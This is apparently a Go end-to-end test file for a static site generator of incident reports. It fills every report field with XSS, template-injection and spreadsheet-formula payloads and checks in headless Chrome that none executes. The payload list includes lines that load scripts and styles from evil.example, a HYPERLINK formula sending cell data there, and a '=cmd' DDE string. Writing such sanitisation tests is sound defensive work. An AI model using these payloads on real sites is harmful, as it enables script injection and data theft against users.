package endtoend_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"golang.org/x/text/unicode/norm"

	"afterword/generator"
	"afterword/generator/internal/diag"
	"afterword/generator/internal/pipeline"
	"afterword/generator/internal/urls"
)

// payloads try to leave every context that text may stand in: elements,
// attributes, scripts, styles, comments, addresses, templates, XML, JSON, CSV,
// iCalendar. Each would call alert. Every title ends in a word of its own.
var payloads = []string{
	`</title></script><script>alert(1)</script><!--<script> ]]> " ' & < > {{1}} ${1} =cmd|' /C calc'!A1`,
	`"><img src=x onerror=alert(2)>`,
	`'><svg onload=alert(3)><animate onbegin=alert(3) attributeName=x>`,
	`javascript:alert(4)//`,
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`--><script>alert(6)</script><!--`,
	`]]><script>alert(7)</script><![CDATA[`,
	"${alert(8)} `${alert(8)}` #{alert(8)} <%= alert(8) %>",
	`{{constructor.constructor('alert(9)')()}} {{ .Site }} {{< x >}}`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(10)&gt;">`,
	`&lt;script&gt;alert(11)&lt;/script&gt; &#60;script&#62; &amp;amp; &quot;`,
	`</textarea></noscript></template></style></select><script>alert(12)</script>`,
	`\u003cscript\u003ealert(13)\u003c/script\u003e \x3c \" \\`,
	`<iframe srcdoc="<script>parent.alert(14)</script>"></iframe><object data=javascript:alert(14)>`,
	`";alert(15);" ';alert(15);'`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(16)"><base href="https://evil.example/">`,
	`" onmouseover="alert(17)" autofocus onfocus='alert(17)' style="x:expression(alert(17))`,
	`</style><style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/x)}`,
	`<script src=https://evil.example/x.js></script><link rel=stylesheet href=https://evil.example/x>`,
	`%3Cscript%3Ealert(20)%3C/script%3E %22%3E`,
	`-2+3;BEGIN:VEVENT,SUMMARY:x\n\nEND:VCALENDAR`,
	`+1 <form action=https://evil.example/><button formaction=javascript:alert(22)>`,
	`@SUM(1) e` + "\u0301" + ` 日本 🔥 שלום <b>`,
	`<a id=location name=body href="javascript:alert(24)" ping=https://evil.example/>`,
}

// word is the one that tells a payload from the others, wherever text is folded.
func word(n int) string { return fmt.Sprintf("payload%02d", n) }

// title is a payload as the title of its report.
func title(n int) string { return payloads[n] + " " + word(n) }

// short cuts a payload for what becomes an address; its letters are bounded.
func short(n int) string {
	return word(n) + " " + string([]rune(payloads[n])[:min(60, len([]rune(payloads[n])))])
}

// payloadArchive puts each payload into every field of a report of its own,
// and the first ones into the settings.
func payloadArchive(t testing.TB, unsafe bool) (dir string) {
	t.Helper()
	var services []map[string]any
	for n := range payloads {
		services = append(services, map[string]any{
			"id": fmt.Sprintf("s%02d", n), "name": title(n), "organization": short(n), "description": payloads[n], "url": "https://e.example/?a=%22%3E'&b=1",
		})
	}
	severities := []string{short(0), short(1), short(6)}
	settings := map[string]any{
		"title": payloads[0], "description": payloads[1] + payloads[6], "author": payloads[2], "base_url": "https://archive.example.net/repo/", "timezone": "UTC",
		"as_of": "2025-01-01", "services": services, "severities": severities, "markdown": map[string]any{"unsafe": unsafe}, "edit_url": "https://e.example/'onclick=alert(1)/",
	}
	files := map[string]string{"archive.yaml": asText(t, settings)} // JSON is YAML
	for n, p := range payloads {
		report := map[string]any{
			"title": title(n), "date": fmt.Sprintf("2024-%02d-%02d", n%12+1, n/12+1), "summary": p, "organization": short(n),
			"services": []string{fmt.Sprintf("s%02d", n)}, "severity": severities[n%3], "tags": []string{short(n)}, "causes": []string{short(n)}, "detected_by": p,
			"impact":   []any{map[string]any{"start": fmt.Sprintf("2024-%02d-%02dT10:00:00Z", n%12+1, n/12+1), "end": fmt.Sprintf("2024-%02d-%02dT11:00:00Z", n%12+1, n/12+1), "level": "major_outage", "note": p}},
			"timeline": []any{map[string]any{"time": fmt.Sprintf("2024-%02d-%02dT10:05:00Z", n%12+1, n/12+1), "status": p, "text": p}},
			"actions":  []any{map[string]any{"title": title(n), "owner": p, "status": p, "kind": p, "due": "2024-12-31", "link": "https://e.example/?x='onclick=alert(1)"}},
			"sources":  []any{map[string]any{"title": p, "url": "https://e.example/?x='onclick=alert(1)&y=%3Cscript%3E", "publisher": p, "date": "2024-01-01"}},
			"custom":   p, "aliases": []string{fmt.Sprintf("/old/%02d'onclick=alert(1) {{x}} ${y}/", n)},
		}
		files[fmt.Sprintf("2024/n%02d/index.md", n)] = asText(t, report) + body(n, unsafe)
		files[fmt.Sprintf("2024/n%02d/graph.png", n)] = "\x89PNG\r\n\x1a\n"
	}
	for n, name := range []string{"=cmd'onclick=alert(1) b", "${alert(1)}", "`alert(1)`", "{{1}}", "a;b,c&d=e+f", "javascript&colon;alert(1)", "-->"[:2] + "!", "' onmouseover='alert(1)"} {
		files["2024/"+name+".md"] = asText(t, map[string]any{"title": fmt.Sprintf("name%02d %s", n, name), "date": "2024-02-03", "related": []string{"2024/n00"}}) + "[all](n00/index.md)\n"
	}
	files["pages/about/graph.png"] = files["2024/n00/graph.png"]
	files["pages/about/index.md"] = asText(t, map[string]any{"title": title(0), "summary": payloads[1]}) + body(1, unsafe)
	files["2024/n00/index.md"] += "[a](<../=cmd'onclick=alert(1)%20b.md>) [b](<../${alert(1)}.md>)\n"
	return archived(t, files)
}

// body puts a payload into what Markdown has. Raw HTML that is let through may
// name only pictures that are there and addresses that are allowed, or it is an
// error and there is nothing to open.
func body(n int, unsafe bool) string {
	p := payloads[n]
	if unsafe {
		p = strings.NewReplacer("src=x", "src=graph.png", "src=1", "src=graph.png", `<img title="`, `<img src=graph.png title="`, `href="javascript:alert(24)"`, `href="https://e.example/"`).Replace(p)
	}
	cell := strings.ReplaceAll(p, "|", `\|`)
	return strings.Join([]string{
		"", "## " + p, p, "- " + p + "\n- [ ] " + p, "> [!NOTE]\n> " + p,
		"| " + cell + " | b |\n|---|---|\n| " + cell + " | `" + cell + "` |",
		"`` " + p + " ``", "```html\n" + p + "\n```", "```\n" + p + "\n```", "```\"onclick=alert(1)\nx\n```", "    " + p,
		"[" + p + "](https://e.example/?q='onclick=alert(1)) [x](<https://e.example/\"onmouseover=\"alert(1)> '" + strings.ReplaceAll(p, "'", "\\'") + "')",
		"![" + p + "](graph.png \"" + strings.ReplaceAll(p, `"`, `\"`) + "\") ![" + p + "](https://e.example/t.gif)",
		"[" + p + "][r] <https://e.example/'onclick=alert(1)> https://e.example/\"onclick=alert(1)",
		"[r]: https://e.example/r '" + strings.ReplaceAll(p, "'", "\\'") + "'",
		"Term\n: " + p, "note[^1]", "[^1]: " + p,
		`<div onclick="alert(1)" style="background:url(javascript:alert(1))">` + p + "</div>", "<!-- " + p + " -->", "&lt;img src=x onerror=alert(1)&gt; &#8; &#xFFFE;", "",
	}, "\n\n")
}

func asText(t testing.TB, v any) string {
	t.Helper()
	text, err := json.MarshalIndent(v, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(text) + "\n"
}

// A payloadSite is the archive of payloads, built and written to a folder.
type payloadSite struct {
	*pipeline.Built
	project, out string
}

func newPayloadSite(t testing.TB, unsafe bool) payloadSite {
	t.Helper()
	s := payloadSite{project: payloadArchive(t, unsafe), out: t.TempDir()}
	b, list := buildIn(t, s.project)
	if list.Errors() > 0 {
		t.Fatal(told(t, s.project, slices.DeleteFunc(list, func(d diag.Diagnostic) bool { return d.Severity != diag.Error })))
	}
	s.Built = b
	for _, f := range b.Tree {
		lay(t, s.out, f.Path, outputs(t, b, f.Path))
	}
	return s
}

// open serves the folder as any host of files would, beneath a base path, and
// opens a tab in which nothing that a payload may do goes unnoticed.
func (s payloadSite) open(t *testing.T) (*tab, *snare) {
	t.Helper()
	v := openTab(t, built{"payloads", s.Loaded.Base, s.Tree})
	server := httptest.NewServer(http.StripPrefix("/repo", http.FileServer(http.Dir(s.out))))
	t.Cleanup(server.Close)
	v.url = server.URL
	caught := &snare{}
	if err := chromedp.Listen(v.ctx, caught.listen); err != nil {
		t.Fatal(err)
	}
	call(v, cdplog.Enable, struct{}{})
	call(v, runtime.Enable, struct{}{})
	call(v, page.Enable, page.EnableParams{})
	call(v, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: setTrap})
	return v, caught
}

// setTrap runs in every document before anything of its own.
const setTrap = `
	window.__xss = []; window.__violations = []
	for (const name of ["alert", "confirm", "prompt", "print", "open"]) window[name] = (...a) => { __xss.push(name + " " + a) }
	document.addEventListener("securitypolicyviolation", e => __violations.push(e.violatedDirective + " " + e.blockedURI + " " + e.sample))
	addEventListener("error", e => { if (e.message) __xss.push("error " + e.message) })
`

// atWork is what a script of the page or an attribute would have done, and
// what stands in the page that could do it later.
const atWork = `(() => {
	const found = [...__xss, ...__violations.map(v => "violation " + v)]
	for (const e of document.querySelectorAll("*")) {
		for (const a of e.attributes) {
			if (/^on|^style$|^srcdoc$|^ping$|^formaction$/i.test(a.name)) found.push(e.localName + " has " + a.name)
			if (/^(href|src|action|data|xlink:href)$/i.test(a.name) && /^[\s\u0000-\u0020]*(javascript|vbscript|data:text|blob)/i.test(a.value)) found.push(e.localName + " leads to " + a.value)
			if (/^(src|srcset|data|poster|background)$/i.test(a.name) && new URL(a.value, document.baseURI).origin !== location.origin) found.push(e.localName + " loads " + a.value)
		}
		if (/^(iframe|object|embed|base|frame|applet|math|foreignobject|animate|set|style)$/i.test(e.localName)) found.push("a " + e.localName)
		if (e.localName === "script" && e.type !== "application/ld+json" && !(e.src.startsWith(location.origin + "/repo/") && e.textContent === "")) found.push("a script: " + e.outerHTML.slice(0, 80))
		if (e.localName === "link" && e.rel === "stylesheet" && new URL(e.href).origin !== location.origin) found.push("a style sheet of " + e.href)
		const name = e.getAttribute("name") ?? e.id
		if (/^(img|form|input)$/.test(e.localName) && name && name in Document.prototype) found.push(name + " hides what the document has")
	}
	return found
})()`

// A snare is what the browser tells of a tab besides what the page knows.
type snare struct {
	sync.Mutex
	caught []string
}

func (c *snare) listen(event any) {
	c.Lock()
	defer c.Unlock()
	switch e := event.(type) {
	case *page.EventJavascriptDialogOpening:
		c.caught = append(c.caught, "a dialog: "+e.Message)
	case *runtime.EventExceptionThrown:
		c.caught = append(c.caught, "an exception: "+e.ExceptionDetails.Text)
	case *page.EventFrameAttached:
		c.caught = append(c.caught, "a frame")
	case *cdplog.EventEntryAdded:
		// The pictures of this archive are heads without bodies.
		if !strings.Contains(e.Entry.URL, "/favicon.ico") {
			c.caught = append(c.caught, fmt.Sprintf("%s: %s %s", e.Entry.Level, e.Entry.Text, e.Entry.URL))
		}
	}
}

func (c *snare) taken() []string {
	c.Lock()
	defer c.Unlock()
	defer func() { c.caught = nil }()
	return c.caught
}

// TestPayloadPages opens every page of the payload site: no script runs, none
// is even held back by the policy, and each report bears its title.
func TestPayloadPages(t *testing.T) {
	for name, unsafe := range map[string]bool{"raw HTML shown": false, "raw HTML sanitised": true} {
		t.Run(name, func(t *testing.T) {
			s := newPayloadSite(t, unsafe)
			v, caught := s.open(t)
			pages := 0
			for _, f := range s.Tree {
				if filepath.Ext(f.Path) != ".html" || strings.HasPrefix(f.Path, "old/") { // those lead elsewhere at once
					continue
				}
				if unsafe && !strings.HasPrefix(f.Path, "incidents/") && !strings.HasPrefix(f.Path, "about/") {
					continue // bodies stand in these only
				}
				pages++
				v.open(urls.SitePath(f.Path))
				for _, what := range append(eval[[]string](v, atWork), caught.taken()...) {
					t.Errorf("%s: %s", f.Path, what)
				}
				if n := slices.IndexFunc(payloads, func(p string) bool {
					return f.Path == fmt.Sprintf("incidents/2024/n%02d/index.html", slices.Index(payloads, p))
				}); n >= 0 {
					if h := eval[string](v, `document.querySelector("h1").textContent.trim()`); h != title(n) {
						t.Errorf("the title %q became %q", title(n), h)
					}
					if head := eval[string](v, `document.title`); !strings.Contains(head, strings.Join(strings.Fields(title(n)), " ")) {
						t.Errorf("the title %q became %q in the window", title(n), head)
					}
				}
			}
			t.Logf("%d pages, %d payloads", pages, len(payloads))
			if pages < len(payloads) {
				t.Errorf("%d pages were opened", pages)
			}
			if unsafe {
				return
			}
			redirects := 0
			for _, f := range s.Tree {
				if strings.HasPrefix(f.Path, "old/") && redirects < 3 {
					redirects++
					v.open(urls.SitePath(f.Path))
					v.arrive("/repo/incidents/2024/n")
					for _, what := range append(eval[[]string](v, atWork), caught.taken()...) {
						if what == "an exception: Uncaught (in promise)" {
							continue // what this test asked of the page that was left
						}
						t.Errorf("%s: %s", f.Path, what)
					}
				}
			}
			// The trap itself: what it is for is caught when it is done on purpose.
			eval[any](v, `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)><style>*{}</style>"), 0`)
			v.await("the trap closes", `__violations.length > 0`)
			if found := eval[[]string](v, atWork); len(found) < 3 {
				t.Errorf("of an attack made on purpose only %q was seen: this test cannot fail", found)
			}
		})
	}
}

// arrive waits until a page is there whose path begins so. Scripts that are
// asked in between fail with the page that they were asked of.
func (v *tab) arrive(path string) {
	v.Helper()
	for range 2_000 {
		there, err := chromedp.Run(v.ctx, chromedp.Evaluate[bool](fmt.Sprintf(`location.pathname.startsWith(%q) && document.readyState === "complete"`, path)))
		if err == nil && there {
			return
		}
	}
	v.Fatalf("no way led to %s", path)
}

// TestPayloadSearch types payloads into the search page, and opens what it
// finds: results, excerpts, filters and suggestions are text. The index
// keeps text in NFC, which is the same text to every reader.
func TestPayloadSearch(t *testing.T) {
	s := newPayloadSite(t, false)
	v, caught := s.open(t)
	check := func(where string) {
		t.Helper()
		for _, what := range append(eval[[]string](v, atWork), caught.taken()...) {
			t.Errorf("%s: %s", where, what)
		}
	}
	v.open(urls.Search)
	v.await("the page is ready", `document.readyState === "complete"`)
	for n := range payloads {
		eval[any](v, `(() => { const q = document.getElementById("q"); q.focus(); q.select() })()`)
		v.enter(word(n))
		v.await("results stand for "+word(n), fmt.Sprintf(`location.search === "?q=%s" && !document.querySelector("[aria-busy]") && `, word(n))+resultsStand)
		if got := eval[[]string](v, titles); len(got) == 0 || got[0] != norm.NFC.String(title(n)) {
			t.Errorf("the title %q became %q", title(n), got[:min(1, len(got))])
		}
		check(word(n))
	}
	for n, p := range payloads {
		for _, address := range []string{"?q=" + url.QueryEscape(p), "?q=" + url.QueryEscape(title(n)) + "&tag=" + url.QueryEscape(p) + "&severity=" + url.QueryEscape(p) + "&sort=" + url.QueryEscape(p) + "#" + url.QueryEscape(p)} {
			v.open(urls.Search + address)
			v.await("the search for "+address+" is over", `!document.querySelector("[aria-busy]") && (`+statusStands+` || `+resultsStand+`)`)
			check(address)
		}
	}
	v.open(urls.Search + "?q=" + word(1))
	v.await("results stand", facetsStand)
	eval[any](v, `document.querySelectorAll("#search-facets details").forEach(d => d.open = true)`)
	check("the filters")
	eval[any](v, `document.querySelector("#search-results a").click()`)
	v.arrive("/repo/incidents/2024/n01/")
	check("the report that was found")

	found, err := generator.Search(t.Context(), generator.Options{Content: filepath.Join(s.project, "content")}, generator.SearchQuery{Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, hit := range found.Results {
		all = append(all, hit.Title)
	}
	for n := range payloads {
		if !slices.Contains(all, norm.NFC.String(title(n))) {
			t.Errorf("the search index lost the title %q", title(n))
		}
	}
}

// read returns a file of the folder.
func (s payloadSite) read(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(s.out, filepath.FromSlash(name)))
	if err != nil {
		t.Fatal(err)
	}
	return data
}
